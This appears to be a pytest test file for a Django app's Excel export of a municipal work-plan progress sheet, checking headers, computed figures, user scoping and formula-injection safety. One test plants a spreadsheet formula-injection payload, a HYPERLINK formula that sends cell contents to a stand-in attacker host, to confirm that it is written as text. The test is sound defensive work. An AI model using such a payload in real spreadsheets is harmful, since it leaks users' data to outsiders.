"""The Excel export, opened with openpyxl and read back."""
import io
from datetime import date

import openpyxl
import pytest

HEADER = ["任务编号", "任务", "指标", "计量单位", "方向", "目标值", "截止日期", "最新值", "填报截至", "应达值",
          "完成度（%）", "状态", "牵头单位"]


def read_back(client, user, query=""):
    client.force_login(user)
    response = client.get("/plans/export.xlsx" + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    return rows[0], {row[2]: row for row in rows[1:]}, rows[1:], book


def as_date(value):
    return value.date() if value else None


def test_one_row_per_indicator_with_the_figures(progress, client, people):
    header, by_name, rows, book = read_back(client, people["leader"])
    assert list(header) == HEADER
    assert [row[2] for row in rows] == ["新建公厕", "一类公厕比例", "人行道积尘", "老旧小区整治比例", "新建公共停车泊位"]
    toilets = by_name["新建公厕"]
    assert toilets[:5] == ("1", "公厕建设", "新建公厕", "座", "不低于")
    assert (toilets[5], as_date(toilets[6]), toilets[7], as_date(toilets[8])) == (
        1210, date(2018, 12, 31), 850, date(2018, 9, 20))
    # expected 1210 × 181 / 273 = 802.23 → 803 whole toilets; completion 850 / 1210 = 70.25 %
    assert (toilets[9], toilets[10], toilets[11], toilets[12]) == (803, pytest.approx(70.25),
                                                                  "正常推进", "市城管局")
    assert by_name["一类公厕比例"][11] == "已完成"
    old = by_name["老旧小区整治比例"]
    assert (old[9], old[11], old[12]) == (pytest.approx(13.26), "滞后", "市园林局")
    assert by_name["人行道积尘"][7:12] == (None, None, 15, 0, "未开始")
    assert by_name["新建公共停车泊位"][0] == "3(2)"
    assert as_date(book.worksheets[1]["B3"].value) == date(2018, 9, 30)


def test_the_export_follows_the_review_date(progress, client, people):
    _, by_name, _, _ = read_back(client, people["leader"], "?as_of=2019-01-05")
    assert (by_name["新建公厕"][9], by_name["新建公厕"][11]) == (1210, "逾期")


def test_the_export_is_scoped(progress, client, people):
    _, by_name, _, _ = read_back(client, people["yuanlin"])
    assert set(by_name) == {"新建公厕", "一类公厕比例", "人行道积尘", "老旧小区整治比例"}


def test_text_that_looks_like_a_formula_is_written_as_text_and_numbers_stay_numbers(progress, client, people):
    from jingzhi.plans.models import Indicator, Task

    hyperlink = '=HYPERLINK("http://evil.example/?x="&B2,"详情")'
    Task.objects.filter(number="1").update(title=hyperlink)
    Indicator.objects.filter(code="toilets").update(name="=1+2", unit="@SUM(A1)")
    Indicator.objects.filter(code="dust").update(name="-人行道积尘", target=-15)
    progress.title = "+工作方案"
    progress.save()
    _, _by_name, _, book = read_back(client, people["leader"])
    sheet = book.worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[2].value == "=1+2")
    for cell, written in ((row[1], hyperlink), (row[2], "=1+2"), (row[3], "@SUM(A1)")):
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", written, True)
    assert (row[5].data_type, row[5].value, row[5].quotePrefix) == ("n", 1210, False)
    dust = next(r for r in sheet.iter_rows(min_row=2) if r[2].value == "-人行道积尘")
    assert dust[2].data_type == "s" and dust[2].quotePrefix
    assert (dust[5].data_type, dust[5].value) == ("n", -15)  # a negative figure is a number, not text
    assert (book.worksheets[1]["B1"].data_type, book.worksheets[1]["B1"].value) == ("s", "+工作方案")
    assert not any(cell.data_type == "f" for ws in book.worksheets for r in ws.iter_rows() for cell in r)
